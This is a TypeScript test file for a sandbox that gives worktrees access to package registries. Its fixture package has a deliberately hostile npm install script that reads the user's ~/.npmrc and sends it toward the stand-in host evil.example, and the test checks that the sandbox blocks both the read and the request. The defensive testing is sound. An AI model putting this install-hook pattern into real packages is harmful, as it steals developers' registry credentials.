import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, it, onTestFinished } from "vitest";
import type { Env } from "../../src/config/paths.ts";
import type { Refusal } from "../../src/sandbox/admit-host.ts";
import { runSandboxed } from "../../src/sandbox/run-sandboxed.ts";
import { createWorktree } from "../../src/worktree/create-worktree.ts";
import { packageAccess } from "../../src/worktree/package-access.ts";
import { setUpWorktree } from "../../src/worktree/set-up-worktree.ts";
import { testRepository } from "../support/repository.ts";
import { describeSandboxed } from "../support/sandbox.ts";
import { temporaryFolder, writeFiles } from "../support/temp.ts";

function access(home: Record<string, string>, env: Env = {}) {
  const [folder, cacheFolder] = [temporaryFolder(), join(temporaryFolder(), "packages")];
  writeFiles(folder, home);
  return { ...packageAccess({ env, home: folder, node: join(folder, "node/bin/node"), cacheFolder, etc: join(folder, "etc") }), home: folder, cacheFolder };
}

describe("packageAccess", () => {
  it("opens the public registries when nothing else is configured, with a cache of its own", () => {
    const { hosts, intranet, env, binds, cacheFolder } = access({});
    expect(hosts).toEqual(expect.arrayContaining(["registry.npmjs.org", "pypi.org", "files.pythonhosted.org", "index.crates.io"]));
    expect([intranet, binds]).toEqual([[], [{ from: cacheFolder, writable: true }]]);
    expect(Object.keys(env).filter((name) => /registry|index/i.test(name))).toEqual([]);
    expect(env).toMatchObject({ npm_config_cache: join(cacheFolder, "npm"), PIP_CACHE_DIR: join(cacheFolder, "pip"), CARGO_HOME: join(cacheFolder, "cargo") });
  });

  it("takes the user's registries from npm's and pip's own files, and no login", () => {
    const found = access({
      "node/etc/npmrc": "registry=https://old.example/\n",
      ".npmrc": '; mine\nregistry = "https://me:pw-canary@npm.corp.example:8443/all/"\n@team:registry=https://${HOST}/team/\n//npm.corp.example:8443/all/:_authToken=token-canary\n',
      ".config/pip/pip.conf": "[global]\nindex-url = https://pip.corp.example/simple\nextra-index-url =\n    https://user:pip-canary@one.example/simple\n    http://10.0.0.9:3141/two\n",
    }, { HOST: "scoped.example" });
    expect(found.intranet).toEqual(["npm.corp.example:8443", "scoped.example", "pip.corp.example", "one.example", "10.0.0.9:3141"]);
    expect(found.env).toMatchObject({
      npm_config_registry: "https://npm.corp.example:8443/all/", PIP_INDEX_URL: "https://pip.corp.example/simple", PIP_EXTRA_INDEX_URL: "https://one.example/simple http://10.0.0.9:3141/two",
    });
    expect(JSON.stringify(found)).not.toContain("canary");
  });

  it("variables win over files; what is no address is left out", () => {
    const found = access({ ".npmrc": "registry=https://file.example/\n" }, { NPM_CONFIG_REGISTRY: "http://localhost:4873", UV_INDEX: "corp=https://uv.example/simple", PIP_INDEX_URL: "not an address" });
    expect(found.intranet).toEqual(["localhost:4873", "uv.example"]);
    expect(found.env).toMatchObject({ npm_config_registry: "http://localhost:4873/", UV_INDEX: "https://uv.example/simple" });
    expect(found.env.PIP_INDEX_URL).toBeUndefined();
  });
});

/** A registry of this machine with one package, whose install script is hostile. */
async function registry() {
  const folder = temporaryFolder();
  const hostile = `const fs=require("fs"),h=require("http"),out={home:(()=>{try{return fs.readFileSync(process.env.HOME+"/.npmrc","utf8")}catch(e){return e.code}})()};
    h.get({host:"127.0.0.1",port:3128,path:"http://evil.example/?stolen"},r=>{out.status=r.statusCode;fs.writeFileSync("seen.json",JSON.stringify(out))})`;
  writeFiles(folder, { "package/package.json": JSON.stringify({ name: "tiny", version: "1.0.0", scripts: { install: "node install.js" } }), "package/install.js": hostile, "package/index.js": "module.exports = 42;" });
  const tarball = execFileSync("tar", ["cz", "-C", folder, "package"]);
  const asked: { url: string; authorization: string | undefined }[] = [];
  const server = createServer((message, response) => {
    asked.push({ url: message.url ?? "", authorization: message.headers.authorization });
    if (message.url === "/tiny/-/tiny-1.0.0.tgz") response.end(tarball);
    else response.writeHead(404).end("{}");
  });
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  onTestFinished(() => void server.close());
  const url = `http://localhost:${(server.address() as AddressInfo).port}/`;
  const resolved = `${url}tiny/-/tiny-1.0.0.tgz`;
  const integrity = `sha512-${createHash("sha512").update(tarball).digest("base64")}`;
  const lock = { name: "p", version: "1.0.0", lockfileVersion: 3, requires: true, packages: { "": { name: "p", version: "1.0.0", dependencies: { tiny: "1.0.0" } }, "node_modules/tiny": { version: "1.0.0", resolved, integrity, hasInstallScript: true } } };
  return { url, asked, files: { "package.json": JSON.stringify({ name: "p", version: "1.0.0", dependencies: { tiny: "1.0.0" } }), "package-lock.json": JSON.stringify(lock), ".gitignore": "node_modules\n" } };
}

describeSandboxed("a set-up in the sandbox", () => {
  it("installs what the lockfile names from the user's registry, once for all worktrees, without the user's login and without another way out", async () => {
    const source = await registry();
    const box = testRepository(source.files);
    const repository = await box.open();
    const { host } = new URL(source.url);
    const own = access({ ".npmrc": `registry=${source.url}\n//${host}/:_authToken=token-canary\n` });
    const refused: Refusal[] = [];
    const setUp = async (bead: string) => {
      const worktree = await createWorktree({ bead }, repository);
      const network = { hosts: own.hosts, intranet: own.intranet, onRefused: (refusal: Refusal) => refused.push(refusal) };
      const result = await setUpWorktree(worktree, { setup: "auto", copy: [], network: true }, {
        repository,
        runSandboxed: (command) => runSandboxed({ workspace: worktree.path, writable: true, home: own.home, binds: own.binds, network }, command, { mode: "required", env: own.env }),
      });
      return { ...result, path: worktree.path };
    };
    const first = await setUp("app-1");
    expect(first).toMatchObject({ status: "done", ran: ["npm ci --no-audit --no-fund"] });
    expect(JSON.parse(readFileSync(join(first.path, "node_modules/tiny/seen.json"), "utf8"))).toEqual({ home: "ENOENT", status: 403 });
    expect(refused).toEqual([{ host: "evil.example" }]);
    expect(source.asked).toEqual([{ url: "/tiny/-/tiny-1.0.0.tgz", authorization: undefined }]);
    const second = await setUp("app-2");
    expect(existsSync(join(second.path, "node_modules/tiny/index.js"))).toBe(true);
    expect(source.asked).toHaveLength(1);
    expect(readdirSync(own.home)).toEqual([".npmrc"]);
  });
});
